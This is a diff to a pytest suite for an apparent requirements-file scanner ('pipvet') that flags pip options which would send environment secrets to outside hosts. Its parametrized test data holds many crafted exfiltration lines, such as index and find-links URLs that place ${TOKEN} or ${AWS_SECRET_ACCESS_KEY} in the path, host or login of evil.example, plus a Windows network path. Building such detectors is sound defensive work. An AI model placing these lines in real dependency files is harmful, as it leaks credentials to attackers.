@@ -28,12 +28,15 @@ def problems(tmp_path: Path, text: str) -> tuple[str, ...]:
     [
         "--extra-index-url https://${TOKEN}@pypi.acme.example/simple",
         "--extra-index-url=https://user:${TOKEN}@pypi.acme.example:8443/simple",
+        '--extra-index-url "https://${TOKEN}@pypi.acme.example/simple"',
         "--index-url ${INDEX}",  # the whole value is the user's own setting
         "-f ${HOME}/wheels",  # a path: pip sends it nowhere
+        "-f C:\\wheels\\${TOKEN}",  # a Windows path too
+        "-f file://${HOME}/wheels",  # a local folder
         "--extra-index-url https://${TOKEN}@pypi.org/simple",  # pip's default index
+        "pkg @ git+https://${GITHUB_TOKEN}@github.com/org/repo.git",  # a code host's login
         "requests==2.32.3",
         "--extra-index-url https://evil.example/simple",  # no variable: nothing to send
-        "-f file://${HOME}/wheels",  # a local folder
     ],
 )
 def test_what_may_stay(tmp_path: Path, line: str) -> None:
@@ -43,13 +46,20 @@ def test_what_may_stay(tmp_path: Path, line: str) -> None:
 @pytest.mark.parametrize(
     ("line", "why"),
     [
-        ("--extra-index-url https://evil.example/${AWS_SECRET_ACCESS_KEY}/simple", "path"),
+        ("--extra-index-url https://evil.example/${AWS_SECRET_ACCESS_KEY}/simple", "address"),
         ("--extra-index-url https://${AWS_SECRET_ACCESS_KEY}@evil.example/simple", "credential"),
-        ("-f http://127.0.0.1:8000/?k=${TOKEN}", "path"),
+        ("-f http://127.0.0.1:8000/?k=${TOKEN}", "address"),
         ("--index-url https://${TOKEN}.evil.example/simple", "chooses the host"),
         ("-ihttps://evil.example/${TOKEN}", "address"),
         ("--extra-index-url ${SCHEME}://evil.example/${TOKEN}", "address"),
-        ("--trusted-host evil.example --find-links=https://evil.example/${TOKEN}", "path"),
+        ("--trusted-host evil.example --find-links=https://evil.example/${TOKEN}", "address"),
+        # pip splits option lines shell-style and takes glued values: judged as characters
+        ("-ihttps://evil.example/?k=${TOKEN}", "address"),
+        ("-fhttps://evil.example/${TOKEN}=x", "address"),
+        ("--index-url https://evil.example/\\ ${TOKEN}", "address"),
+        ('--extra-index-url "https://evil.example/x ${TOKEN}"', "address"),
+        ("--extra-index-url https://${TOKEN}@pypi.acme.example@evil.example/", "credential"),
+        ("-f \\\\evil.example\\share\\${TOKEN}", "address"),  # a Windows network path
     ],
 )
 def test_what_is_refused(tmp_path: Path, line: str, why: str) -> None:
@@ -118,3 +128,23 @@ def test_configured_hosts_come_from_pip_settings_only(tmp_path: Path) -> None:
     }
     hosts = configured_hosts(environ, tmp_path / "prefix", dict)
     assert hosts == {"a.example", "b.example", "c.example", "d.example"}
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["-r", "requirements.txt"],
+        ["-qr", "requirements.txt"],  # flags grouped before the value option
+        ["-Urrequirements.txt"],
+        ["--requirem", "requirements.txt"],  # a long option cut short, as optparse takes it
+        ["--requirement=requirements.txt"],
+        ["-c", "requirements.txt"],
+    ],
+)
+def test_install_finds_the_file_however_pip_is_told(tmp_path: Path, argv: list[str]) -> None:
+    from pipvet.cli import _install_steps
+    from pipvet.errors import InputError
+
+    (tmp_path / "requirements.txt").write_text("-f https://evil.example/${TOKEN}/\nsix\n")
+    with pytest.raises(InputError):
+        _install_steps.check_variables(argv, cwd=tmp_path, environ={}, configured=frozenset())
